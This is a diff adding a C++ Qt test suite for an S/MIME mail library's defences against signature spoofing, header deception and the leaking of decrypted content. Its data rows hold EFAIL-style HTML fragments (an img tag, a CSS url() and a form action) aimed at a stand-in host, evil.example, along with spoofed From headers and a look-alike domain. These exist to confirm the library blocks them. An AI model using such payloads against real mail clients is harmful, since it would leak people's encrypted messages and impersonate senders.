@@ -1,0 +1,408 @@
+// SPDX-License-Identifier: GPL-3.0-or-later
+#include "smime/SmimeTesting.h"
+#include "support/CmsMessages.h"
+
+using namespace smime;
+using namespace smimetest;
+
+namespace {
+
+QByteArray header(const QByteArray &from = "Alice <alice@example.org>")
+{
+    return "From: " + from + "\r\nTo: bob@example.org\r\nSubject: Test\r\nMIME-Version: 1.0\r\n";
+}
+
+QByteArray textPart(const QByteArray &text)
+{
+    return "Content-Type: text/plain; charset=utf-8\r\n\r\n" + text + "\r\n";
+}
+
+QByteArray htmlPart(const QByteArray &html)
+{
+    return "Content-Type: text/html; charset=utf-8\r\n\r\n" + html + "\r\n";
+}
+
+QByteArray multipart(const QByteArray &type, const QList<QByteArray> &parts)
+{
+    QByteArray out = "Content-Type: multipart/" + type + "; boundary=\"out\"\r\n\r\n";
+    for (const QByteArray &part : parts)
+        out += "--out\r\n" + part + "\r\n";
+    return out + "--out--\r\n";
+}
+
+QByteArray cmsPart(const QByteArray &der, const QByteArray &type = "application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m")
+{
+    return "Content-Type: " + type + "\r\nContent-Transfer-Encoding: base64\r\n\r\n" + der.toBase64() + "\r\n";
+}
+
+QByteArray signedPart(const QByteArray &entity, const QByteArray &signature)
+{
+    return "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=\"sig\"\r\n\r\n--sig\r\n"
+        + entity + "\r\n--sig\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n\r\n"
+        + signature.toBase64() + "\r\n--sig--\r\n";
+}
+
+} // namespace
+
+class TestSpoofing : public QObject
+{
+    Q_OBJECT
+
+private:
+    support::WithProvider m_provider;
+    World m_world;
+
+    provider::CmsOptions atTestTime(provider::ContentCipher cipher = provider::ContentCipher::Aes256Gcm) const
+    {
+        provider::CmsOptions options;
+        options.signingTime = testTime();
+        options.cipher = cipher;
+        return options;
+    }
+
+    QByteArray detachedBy(const QList<Person> &signers, const QByteArray &content) const { return support::detached(content, signers, atTestTime()); }
+    QByteArray opaqueBy(const Person &signer, const QByteArray &content) const { return support::opaque(content, {signer}, atTestTime()); }
+    QByteArray encryptedFor(const Person &reader, const QByteArray &content, provider::ContentCipher cipher = provider::ContentCipher::Aes256Gcm) const
+    {
+        return support::cmsEncrypt(content, {reader}, atTestTime(cipher)).output;
+    }
+
+private Q_SLOTS:
+    void oneBadSignerOfTwoCounts()
+    {
+        const QByteArray entity = textPart("Both of us agree.");
+        const QByteArray message = header() + signedPart(entity, detachedBy({m_world.alice, m_world.mallory}, entity));
+        const OpenedMessage opened = m_world.open(message);
+        QCOMPARE(opened.verdict.signature.signers.size(), 2);
+        QCOMPARE(opened.verdict.signature.signers[0].axes.identity, smime::Identity::Match);
+        QCOMPARE(opened.verdict.summary, Summary::Impersonated);
+    }
+
+    void certificatesAloneAreNoSignature()
+    {
+        // SignedData without signers (RFC 8551 section 3.8), with Alice's certificate: as openssl crl2pkcs7 -nocrl makes it.
+        const QByteArray certificate = m_world.alice.der();
+        const auto tlv = [](char tag, const QByteArray &content) {
+            QByteArray length;
+            for (qsizetype n = content.size(); n > 0; n >>= 8)
+                length.prepend(static_cast<char>(n & 0xff));
+            const bool isShort = content.size() < 128;
+            return QByteArray(1, tag) + (isShort ? QByteArray(1, static_cast<char>(content.size())) : static_cast<char>(0x80 | length.size()) + length) + content;
+        };
+        const QByteArray signedData = tlv(0x30, QByteArray::fromHex("020101") + tlv(0x31, {})
+            + tlv(0x30, QByteArray::fromHex("06092a864886f70d010701")) + tlv('\xa0', certificate) + tlv(0x31, {}));
+        const QByteArray der = tlv(0x30, QByteArray::fromHex("06092a864886f70d010702") + tlv('\xa0', signedData));
+        const OpenedMessage opened = m_world.open(header() + cmsPart(der, "application/pkcs7-mime; smime-type=signed-data; name=smime.p7m"));
+        QCOMPARE(opened.verdict.summary, Summary::Plain);
+        QVERIFY(opened.verdict.warnings.contains(u"certificates-only"_s));
+        QCOMPARE(opened.certificates, QList<QByteArray>{certificate});
+        const QByteArray entity = textPart("Nobody signed me.");
+        const OpenedMessage detached = m_world.open(header() + signedPart(entity, der));
+        QCOMPARE(detached.verdict.summary, Summary::Plain);
+        QCOMPARE(text(detached), u"Nobody signed me."_s);
+    }
+
+    void footerOfAMailingListStaysOutside()
+    {
+        const QByteArray entity = textPart("The signed words.");
+        const QByteArray message = header() + multipart("mixed", {signedPart(entity, detachedBy({m_world.alice}, entity)), textPart("List footer.")});
+        const OpenedMessage opened = m_world.open(message);
+        QCOMPARE(opened.verdict.summary, Summary::Unverified);
+        QCOMPARE(opened.verdict.signature.coverage, Coverage::Part);
+        QVERIFY(opened.verdict.warnings.contains(u"signed-part"_s));
+        QCOMPARE(text(opened), u"The signed words."_s);
+        QCOMPARE(opened.unprotected.size(), 1);
+        QCOMPARE(opened.unprotected[0].text.trimmed(), u"List footer."_s);
+    }
+
+    void textBeforeTheSignedPartIsNotJoinedWithIt()
+    {
+        const QByteArray entity = textPart("I agree.");
+        const QByteArray message = header() + multipart("mixed", {textPart("Mallory gets all my money."), signedPart(entity, detachedBy({m_world.alice}, entity))});
+        const OpenedMessage opened = m_world.open(message);
+        QVERIFY(opened.verdict.summary != Summary::Verified);
+        QVERIFY(!opened.text.contains(u"Mallory"_s));
+        QCOMPARE(opened.unprotected[0].text.trimmed(), u"Mallory gets all my money."_s);
+    }
+
+    void thirdPartInsideMultipartSignedIsOutsideTheSignature()
+    {
+        const QByteArray entity = textPart("Signed.");
+        QByteArray message = header() + signedPart(entity, detachedBy({m_world.alice}, entity));
+        message.replace("--sig--", "--sig\r\n" + textPart("Appended.") + "\r\n--sig--");
+        const OpenedMessage opened = m_world.open(message);
+        QCOMPARE(opened.verdict.signature.coverage, Coverage::Part);
+        QVERIFY(opened.verdict.summary != Summary::Verified);
+        QCOMPARE(text(opened), u"Signed."_s);
+        QCOMPARE(opened.unprotected[0].text.trimmed(), u"Appended."_s);
+    }
+
+    void signatureThatCarriesOtherContentIsAltered()
+    {
+        const QByteArray entity = textPart("What is shown.");
+        const QByteArray other = opaqueBy(m_world.alice, textPart("What was signed."));
+        const OpenedMessage opened = m_world.open(header() + signedPart(entity, other));
+        QCOMPARE(opened.verdict.summary, Summary::Altered);
+    }
+
+    void missingSignaturePartIsNotSilentlyUnsigned()
+    {
+        const QByteArray entity = textPart("Trust me.");
+        const QByteArray message = header() + "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=\"sig\"\r\n\r\n--sig\r\n" + entity + "\r\n--sig--\r\n";
+        QCOMPARE(m_world.open(message).verdict.summary, Summary::Altered);
+        QCOMPARE(m_world.open(header() + signedPart(entity, "garbage")).verdict.summary, Summary::Altered);
+    }
+
+    void signatureAroundCiphertextSaysOnlyWhoSentIt()
+    {
+        // Mallory takes Alice's ciphertext and signs it: must not look as if Mallory had written it.
+        const QByteArray inner = cmsPart(encryptedFor(m_world.bob, textPart("Secret of Alice.")));
+        const QByteArray message = header("mallory@example.org") + signedPart(inner, detachedBy({m_world.mallory}, inner));
+        const OpenedMessage opened = m_world.open(message);
+        QCOMPARE(opened.verdict.summary, Summary::Decrypted);
+        QVERIFY(opened.verdict.warnings.contains(u"signed-outside-encryption"_s));
+        QCOMPARE(opened.verdict.signature.axes.integrity, Integrity::None);
+        QCOMPARE(opened.verdict.layers.first().signature.axes.integrity, Integrity::Valid);
+    }
+
+    void tripleWrappedMailIsVerifiedByBothItsSignatures()
+    {
+        const QByteArray entity = textPart("Wrapped three times.");
+        const QByteArray inner = signedPart(entity, detachedBy({m_world.alice}, entity));
+        const QByteArray middle = cmsPart(encryptedFor(m_world.bob, inner));
+        OpenedMessage opened = m_world.open(header() + signedPart(middle, detachedBy({m_world.alice}, middle)));
+        QCOMPARE(opened.verdict.summary, Summary::Verified);
+        QCOMPARE(opened.verdict.layers.size(), 3);
+        opened = m_world.open(header("mallory@example.org") + signedPart(middle, detachedBy({m_world.mallory}, middle)));
+        QCOMPARE(opened.verdict.summary, Summary::Impersonated);
+    }
+
+    void ciphertextBelowOtherTextIsNeverJoinedWithIt_data()
+    {
+        QTest::addColumn<QByteArray>("before");
+        QTest::addColumn<QByteArray>("after");
+        QTest::newRow("image") << QByteArray("<img src=\"http://evil.example/") << QByteArray("\">");
+        QTest::newRow("style") << QByteArray("<style>body{background:url(http://evil.example/") << QByteArray(")}</style>");
+        QTest::newRow("form") << QByteArray("<form action=\"http://evil.example/\"><textarea name=x>") << QByteArray("</textarea></form>");
+    }
+
+    void ciphertextBelowOtherTextIsNeverJoinedWithIt()
+    {
+        QFETCH(QByteArray, before);
+        QFETCH(QByteArray, after);
+        const QByteArray secret = cmsPart(encryptedFor(m_world.bob, textPart("The secret of Bob."), provider::ContentCipher::Aes256Cbc));
+        const OpenedMessage opened = m_world.open(header() + multipart("mixed", {htmlPart(before), secret, htmlPart(after)}));
+        QCOMPARE(opened.verdict.summary, Summary::Decrypted);
+        QVERIFY(opened.verdict.warnings.contains(u"encrypted-part"_s));
+        QCOMPARE(text(opened), u"The secret of Bob."_s);
+        QVERIFY(!opened.html);
+        for (const UnprotectedPart &part : opened.unprotected)
+            QVERIFY(!part.text.contains(u"secret of Bob"_s));
+    }
+
+    void htmlOutOfAnUnauthenticatedCipherIsTextOnly()
+    {
+        const QByteArray secret = cmsPart(encryptedFor(m_world.bob, htmlPart("<p>Hello <img src=\"http://evil.example/x.png\"></p>"), provider::ContentCipher::Aes256Cbc));
+        OpenedMessage opened = m_world.open(header() + secret);
+        QVERIFY(!opened.html);
+        QVERIFY(opened.text.contains(u"Hello"_s));
+        QVERIFY(opened.verdict.warnings.contains(u"not-authenticated"_s));
+        opened = m_world.open(header() + cmsPart(encryptedFor(m_world.bob, htmlPart("<p>Hello <img src=\"http://evil.example/x.png\"></p>"))));
+        QVERIFY(opened.html && !opened.html->contains(u"evil"_s));
+        QVERIFY(opened.verdict.warnings.contains(u"remote-content-blocked"_s));
+    }
+
+    void foreignCiphertextInsideSignedMailStaysClosed()
+    {
+        // Covert content: Mallory wraps a message of Alice to Bob into her own signed mail, hoping for a reply that quotes it.
+        const QByteArray covert = cmsPart(encryptedFor(m_world.bob, textPart("Secret of Alice.")));
+        const QByteArray entity = multipart("mixed", {textPart("Can you read this?"), covert});
+        const OpenedMessage opened = m_world.open(header("mallory@example.org") + signedPart(entity, detachedBy({m_world.mallory}, entity)));
+        QCOMPARE(opened.verdict.summary, Summary::Verified);
+        QCOMPARE(text(opened), u"Can you read this?"_s);
+        QCOMPARE(opened.attachments.size(), 1);
+        QVERIFY(!opened.attachments[0].content().contains("Secret"));
+    }
+
+    void forwardedSignedMailLendsItsSealToNobody()
+    {
+        const QByteArray entity = textPart("Signed by Alice.");
+        const QByteArray inner = header() + signedPart(entity, detachedBy({m_world.alice}, entity));
+        const QByteArray message = header() + multipart("mixed", {textPart("Look what Alice wrote."), "Content-Type: message/rfc822\r\n\r\n" + inner});
+        const OpenedMessage opened = m_world.open(message);
+        QCOMPARE(opened.verdict.summary, Summary::Plain);
+        QVERIFY(opened.verdict.layers.isEmpty());
+        QCOMPARE(opened.attachments.size(), 1);
+    }
+
+    void layersByAnyNameAreFound_data()
+    {
+        QTest::addColumn<QByteArray>("type");
+        QTest::newRow("octet-stream p7m") << QByteArray("application/octet-stream; name=smime.p7m");
+        QTest::newRow("x-pkcs7-mime") << QByteArray("application/x-pkcs7-mime; name=smime.p7m");
+        QTest::newRow("without parameters") << QByteArray("application/pkcs7-mime");
+        QTest::newRow("wrong smime-type") << QByteArray("application/pkcs7-mime; smime-type=enveloped-data");
+    }
+
+    void layersByAnyNameAreFound()
+    {
+        QFETCH(QByteArray, type);
+        const OpenedMessage opened = m_world.open(header() + cmsPart(opaqueBy(m_world.alice, textPart("By any name.")), type));
+        QCOMPARE(opened.verdict.summary, Summary::Verified);
+        QCOMPARE(text(opened), u"By any name."_s);
+    }
+
+    void sendersThatDeceiveAreNotVerified_data()
+    {
+        QTest::addColumn<QByteArray>("from");
+        QTest::addColumn<Summary>("summary");
+        QTest::addColumn<QString>("warning");
+        // Mallory signs each of these with her own certificate.
+        QTest::newRow("two addresses") << QByteArray("alice@example.org, mallory@example.org") << Summary::Impersonated << u"several-from"_s;
+        QTest::newRow("two fields") << QByteArray("mallory@example.org\r\nFrom: alice@example.org") << Summary::Impersonated << u"several-from"_s;
+        QTest::newRow("name of Alice") << QByteArray("\"alice@example.org\" <mallory@example.org>") << Summary::Verified << u"name-looks-like-address"_s;
+        QTest::newRow("comment") << QByteArray("alice@example.org (mallory@example.org)") << Summary::Impersonated << QString();
+        QTest::newRow("encoded word") << QByteArray("=?utf-8?q?mallory=40example=2Eorg?= <alice@example.org>") << Summary::Impersonated << u"name-looks-like-address"_s;
+        QTest::newRow("look-alike domain") << QByteArray("mallory@ex\xd0\xb0mple.org") << Summary::Impersonated << u"look-alike-domain"_s;
+        QTest::newRow("none") << QByteArray("") << Summary::Unverified << u"no-from"_s;
+    }
+
+    void sendersThatDeceiveAreNotVerified()
+    {
+        QFETCH(QByteArray, from);
+        QFETCH(QString, warning);
+        const QByteArray entity = textPart("Hello.");
+        const OpenedMessage opened = m_world.open(header(from) + signedPart(entity, detachedBy({m_world.mallory}, entity)));
+        QTEST(opened.verdict.summary, "summary");
+        if (!warning.isEmpty())
+            QVERIFY2(opened.verdict.warnings.contains(warning), qPrintable(opened.verdict.warnings.join(u' ')));
+        if (from.contains("\xd0"))
+            QVERIFY2(shown(opened, "From").contains(u"xn--"_s), qPrintable(shown(opened, "From")));
+    }
+
+    void innerSenderWithoutSignatureDoesNotCount()
+    {
+        const QByteArray inner = "From: alice@example.org\r\nSubject: Inner\r\nContent-Type: text/plain; hp=\"cipher\"\r\n\r\nHello.\r\n";
+        OpenedMessage opened = m_world.open(header("mallory@example.org") + cmsPart(encryptedFor(m_world.bob, inner)));
+        QCOMPARE(shown(opened, "From"), u"mallory@example.org"_s);
+        QVERIFY(opened.verdict.warnings.contains(u"from-not-bound"_s));
+        QCOMPARE(shown(opened, "Subject"), u"Inner"_s);
+        const QByteArray bound = "From: alice@example.org\r\nSubject: Inner\r\nContent-Type: text/plain; hp=\"clear\"\r\n\r\nHello.\r\n";
+        opened = m_world.open(header("mallory@example.org") + signedPart(bound, detachedBy({m_world.alice}, bound)));
+        QCOMPARE(shown(opened, "From"), u"alice@example.org"_s);
+        QCOMPARE(opened.verdict.summary, Summary::Verified);
+        QVERIFY(opened.verdict.warnings.contains(u"outer-header-differs"_s));
+        opened = m_world.open(header("mallory@example.org") + signedPart(bound, detachedBy({m_world.mallory}, bound)));
+        QCOMPARE(shown(opened, "From"), u"mallory@example.org"_s);
+        QVERIFY(opened.verdict.warnings.contains(u"from-not-bound"_s));
+    }
+
+    void addedOuterReplyToIsNotShown()
+    {
+        const QByteArray bound = "From: alice@example.org\r\nSubject: Inner\r\nContent-Type: text/plain; hp=\"clear\"\r\n\r\nHello.\r\n";
+        const OpenedMessage opened = m_world.open("Reply-To: mallory@example.org\r\n" + header() + signedPart(bound, detachedBy({m_world.alice}, bound)));
+        QVERIFY(!opened.header("Reply-To"));
+        QVERIFY(opened.verdict.warnings.contains(u"outer-header-differs"_s));
+    }
+
+    void endlessWrappingEndsWithAnError()
+    {
+        QByteArray entity = textPart("Deep inside.");
+        for (int i = 0; i < 12; ++i)
+            entity = cmsPart(opaqueBy(m_world.alice, entity), "application/pkcs7-mime; smime-type=signed-data");
+        const OpenedMessage opened = m_world.open(header() + entity);
+        QCOMPARE(opened.verdict.summary, Summary::Malformed);
+        QCOMPARE(opened.fault->code, base::ErrorCode::MessageTooDeep);
+    }
+
+    void damagedCmsSaysWhere_data()
+    {
+        QTest::addColumn<QByteArray>("body");
+        QTest::newRow("empty") << QByteArray();
+        QTest::newRow("garbage") << QByteArray("this is no CMS at all");
+        QTest::newRow("cut") << QByteArray::fromHex("308203e806092a864886f70d010702a08203");
+    }
+
+    void damagedCmsSaysWhere()
+    {
+        QFETCH(QByteArray, body);
+        const OpenedMessage opened = m_world.open(header() + cmsPart(body));
+        QCOMPARE(opened.verdict.summary, Summary::Malformed);
+        QVERIFY2(opened.fault->detail.contains(u"part 1"_s), qPrintable(opened.fault->detail));
+        QCOMPARE(m_world.open("").verdict.summary, Summary::Malformed);
+    }
+
+    void unsignedReceiptRequestIsShown()
+    {
+        const OpenedMessage opened = m_world.open("Disposition-Notification-To: mallory@example.org\r\n" + header() + textPart("Read me."));
+        QVERIFY(opened.verdict.warnings.contains(u"receipt-requested"_s));
+    }
+
+    void expiredCertificateCountsIfTheMailIsKnownToBeOlder()
+    {
+        SealRequest seal = m_world.sealRequest(lunchDraft());
+        seal.encryption = Encryption::None;
+        OpenRequest request = m_world.openRequest(sealed(seal), {});
+        request.at = testTime().addYears(2);
+        QCOMPARE(open(request).verdict.signature.axes.time, Time::Expired);
+        QCOMPARE(open(request).verdict.summary, Summary::Unverified);
+        request.firstReceived = testTime().addDays(1);
+        QCOMPARE(open(request).verdict.signature.axes.time, Time::ExpiredSince);
+        QCOMPARE(open(request).verdict.summary, Summary::Verified);
+        request.firstReceived = testTime().addYears(1).addDays(1);
+        QCOMPARE(open(request).verdict.summary, Summary::Unverified);
+    }
+
+    void clocksMayDifferByFiveMinutes()
+    {
+        SealRequest seal = m_world.sealRequest(lunchDraft());
+        seal.encryption = Encryption::None;
+        OpenRequest request = m_world.openRequest(sealed(seal), {});
+        const QDateTime end = provider::factsOf(m_world.alice.certificate).notAfter;
+        request.at = end.addSecs(4 * 60);
+        QCOMPARE(open(request).verdict.signature.axes.time, Time::Valid);
+        request.at = end.addSecs(6 * 60);
+        QCOMPARE(open(request).verdict.signature.axes.time, Time::Expired);
+    }
+
+    void signerIsAskedForInMemoryOnlyIfBound()
+    {
+        const QByteArray entity = textPart("Remember me.");
+        OpenRequest request = m_world.openRequest(header() + signedPart(entity, detachedBy({m_world.alice}, entity)), {});
+        QStringList asked;
+        request.material.recall = [&asked](const QString &address, const QByteArray &) {
+            asked.append(address);
+            return Recollection{Continuity::Same, 12, testTime()};
+        };
+        const OpenedMessage opened = open(request);
+        QCOMPARE(asked, QStringList{u"alice@example.org"_s});
+        QCOMPARE(opened.verdict.signature.continuity, Continuity::Same);
+        QCOMPARE(opened.verdict.signature.continuityCount, 12);
+        request.message = header() + signedPart(entity, detachedBy({m_world.mallory}, entity));
+        QCOMPARE(open(request).verdict.signature.continuity, Continuity::NotChecked);
+    }
+
+    void revokedCertificateIsNeverVerified()
+    {
+        provider::CrlFacts revocation;
+        revocation.number = "01";
+        revocation.thisUpdate = testTime().addDays(-1);
+        revocation.nextUpdate = testTime().addDays(30);
+        revocation.revoked = {{provider::factsOf(m_world.alice.certificate).serial, testTime().addDays(-1), provider::RevocationReason::KeyCompromise}};
+        const auto crl = provider::issueCrl(m_world.authority.certificate, m_world.authority.key, revocation);
+        QVERIFY(crl.isOk());
+        const QByteArray entity = textPart("Too late.");
+        OpenRequest request = m_world.openRequest(header() + signedPart(entity, detachedBy({m_world.alice}, entity)), {});
+        request.material.crls = {*crl};
+        const OpenedMessage opened = open(request);
+        QCOMPARE(opened.verdict.signature.axes.revocation, Revocation::Revoked);
+        QCOMPARE(opened.verdict.summary, Summary::Unverified);
+        SealRequest seal = m_world.sealRequest(lunchDraft());
+        seal.recipients = {{{u"Alice"_s, u"alice@example.org"_s}, RecipientRole::To, m_world.alice.der(), {}}};
+        seal.crls = {*crl};
+        QCOMPARE(smime::seal(seal).error().code, base::ErrorCode::CertificateRevoked);
+    }
+};
+
+QTEST_GUILESS_MAIN(TestSpoofing)
+#include "tst_Spoofing.moc"
